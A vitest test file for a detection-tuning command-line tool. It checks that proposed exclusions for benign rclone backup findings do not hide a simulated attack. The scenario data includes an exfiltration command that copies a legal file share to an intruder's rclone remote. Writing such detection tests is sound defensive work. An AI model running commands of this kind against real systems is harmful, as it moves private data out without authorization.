import { cpSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { readExclusions } from '../../src/detections/tuning-file.ts'
import { builtCli } from './built.ts'
import { CONTENT, Scratch } from './run.ts'

const SCENARIO = `id: share-by-rclone
title: An intruder copies a share with rclone
kind: attack
description: The share goes to a server of the intruder.
techniques: [T1048.002]
references: [own]
start: 2026-03-02T09:14:00Z
hosts: [{ name: WS-LAW-03, domain: corp.example, os: windows, address: 10.20.3.33 }]
users: [{ name: k.moss, domain: CORP }]
processes:
  - id: rclone
    image: C:\\Users\\Public\\rclone.exe
    command_line: rclone.exe copy C:\\Shares\\Law away:inbox --transfers 8
`

const place = new Scratch()
beforeAll(() => {
  builtCli()
  cpSync(`${CONTENT}/t1048.002-encrypted-channel`, place.path('p'), { recursive: true })
  for (const name of ['scenarios', 'tuning.yaml']) rmSync(place.path(`p/${name}`), { recursive: true, force: true })
  mkdirSync(place.path('p/scenarios'))
  writeFileSync(place.path('p/scenarios/share-by-rclone.yaml'), SCENARIO)
}, 120_000)
afterAll(() => place.remove())

const finding = (platform: string, entities: Readonly<Record<string, string>>, uid = 't1048.002'): string =>
  JSON.stringify({ platform, finding_info: { analytic: { uid } }, entities })

const BACKUP = [1, 2, 3].map((n) =>
  finding(n === 1 ? 'sigma' : 'defender', {
    host: 'SRV-BKP-1',
    user: n === 1 ? 'CORP\\svc-backup' : 'svc-backup',
    process: 'rclone.exe',
    command: `rclone.exe sync D:\\${n} vault:nightly`,
  }),
)
const ATTACK = finding('sigma', {
  host: 'WS-LAW-03',
  user: 'CORP\\k.moss',
  process: 'rclone.exe',
  command: 'rclone.exe copy C:\\Shares\\Law away:inbox --transfers 8',
})

test('proposes what covers benign findings, proves that no attack is hidden, and names what would hide one', async () => {
  writeFileSync(place.path('benign.ndjson'), [...BACKUP, ATTACK].join('\n'))
  const { out, err, code } = await place.run(['tune', 'benign.ndjson', '--packages', 'p'])
  expect(err).toBe('')
  expect(code).toBe(1)
  expect(out).toMatch(
    /# proved: none of these hides any of the \d+ findings of 1 of 1 attack scenario and of \d+ of [1-9]\d* variants\n/,
  )
  expect(out).toContain('# not proposed, as it would hide attacks: share-by-rclone')
  expect(out).toContain('  # covers 3 findings: 1 sigma, 2 defender\n')
  const { exclusions, diagnostics } = readExclusions('tuning.yaml', out)
  expect(diagnostics).toEqual([])
  expect(exclusions.map(({ id, when }) => [id, when])).toEqual([
    [
      'rclone-svc-backup',
      [
        { entity: 'user', test: 'is', values: ['svc-backup'] },
        { entity: 'host', test: 'is', values: ['srv-bkp-1'] },
        { entity: 'process', test: 'is', values: ['rclone.exe'] },
        { entity: 'command', test: 'contains', values: ['vault:nightly'] },
      ],
    ],
  ])
  // What is pasted covers the findings, and every query says so.
  writeFileSync(place.path('p/tuning.yaml'), out)
  writeFileSync(place.path('benign.ndjson'), BACKUP.join('\n'))
  const again = await place.run(['tune', 'benign.ndjson', '--packages', 'p'])
  expect(again.out).toContain('3 findings judged benign, 3 covered by tuning.yaml already\n')
  expect(again.out).toContain('exclusions: []\n')
  expect(again.code).toBe(0)
  const shown = await place.run(['detections', 'show', 't1048.002', '--tuned', '--packages', 'p'])
  const times = shown.out.match(/tuned rclone-svc-backup: rclone\.exe of svc-backup on srv-bkp-1/g)?.length ?? 0
  const queries = readFileSync(place.path('p/detection.yaml'), 'utf8').match(/- platform: /g)?.length ?? 0
  expect(times).toBeGreaterThanOrEqual(queries)
  expect(shown.err).toContain('its log source has no field for command')
}, 180_000)

test('tells what cannot be used by line, and uses the rest', async () => {
  writeFileSync(
    place.path('broken.ndjson'),
    `${BACKUP[0]}\n{"platform":\n{}\n${finding('sigma', {}, 'mine\u001b[2J')}\n`,
  )
  const { out, err, code } = await place.run(['tune', 'broken.ndjson', '--packages', 'p'])
  expect(err).toBe(
    'broken.ndjson:2: it is no JSON; it is left out\n' +
      'broken.ndjson:3: it is no finding of `siemless hunt`; it is left out\n' +
      '1 finding: no package has the detection `mine\\x1b[2J`; a rule of your own is tuned by a Sigma filter\n',
  )
  expect(out).toContain('1 finding judged benign')
  expect(code).toBe(4)
  expect(await place.run(['tune', 'absent.json'])).toEqual({
    out: '',
    err: 'absent.json: it cannot be read: no such file or directory\n',
    code: 4,
  })
  expect((await place.run(['tune'])).code).toBe(3)
}, 180_000)

test('exports are files, or one stream where they can be', async () => {
  const printed = await place.run(['detections', 'export', '--format', 'splunk'])
  expect(printed.code).toBe(0)
  expect(printed.out.match(/^mitre_attack_id|^ {2}mitre_attack_id/gm)?.length).toBeGreaterThan(1)
  const pages = await place.run(['detections', 'export', '--format', 'html', '--packages', 'p', '-o', 'pages'])
  expect(pages).toEqual({ out: '', err: 'pages/t1048_002.html\n', code: 0 })
  expect(readFileSync(place.path('pages/t1048_002.html'), 'utf8')).toContain('<!doctype html>')
  const bad = await place.run(['detections', 'export', '--format', 'html', '--report', 'benign.ndjson', '-o', 'pages'])
  expect(bad.err).toContain('it is no report of a test')
  expect(bad.code).toBe(3)
}, 180_000)
